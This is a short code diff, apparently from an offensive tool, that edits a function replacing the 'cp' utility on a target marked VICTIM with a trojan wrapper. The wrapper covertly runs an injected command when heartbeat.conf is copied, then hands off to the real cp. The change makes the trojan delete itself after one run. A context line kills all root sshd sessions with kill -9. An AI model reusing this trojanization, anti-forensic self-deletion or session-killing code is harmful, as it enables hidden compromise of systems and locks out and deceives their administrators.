@@ -90,7 +90,8 @@ SESSIONS = "pgrep -f 'sshd: root' | xargs -r kill -9"
 
 
 def at_the_end_of_the_swap(site: Site, command: str) -> Undo:
-    script = f'case "$*" in */heartbeat.conf) ( {command} ) >/dev/null 2>&1 ;; esac; exec "$REAL" "$@"'
+    once = f'rm "$0"; ( {command} ) >/dev/null 2>&1'
+    script = f'case "$*" in */heartbeat.conf) {once} ;; esac; exec "$REAL" "$@"'
     return site.replace_tool(VICTIM, "cp", script)
 
 
